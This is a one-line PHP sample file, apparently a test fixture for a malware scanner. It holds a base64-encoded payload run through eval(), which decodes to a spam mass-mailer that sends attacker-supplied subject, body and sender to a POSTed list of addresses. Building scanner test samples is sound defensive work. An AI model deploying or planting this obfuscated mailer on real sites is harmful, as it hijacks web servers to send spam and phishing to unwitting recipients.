<?php
// Family: mailer/mass-form
// Style: inert mass-mail loop packed with base64
// Trait: the unwrapped payload of tests/samples/malicious/mailer/layer-plain.php, decoded statically by the scanner
eval(base64_decode('JGxpc3QgPSBleHBsb2RlKCJcbiIsICRfUE9TVFsnZW1haWxzJ10pOwpmb3JlYWNoICgkbGlzdCBhcyAkdG8pIHsKCW1haWwodHJpbSgkdG8pLCAkX1BPU1RbJ3N1YmplY3QnXSwgJF9QT1NUWydib2R5J10sICJGcm9tOiAiIC4gJF9QT1NUWydmcm9tJ10pOwp9Cg=='));
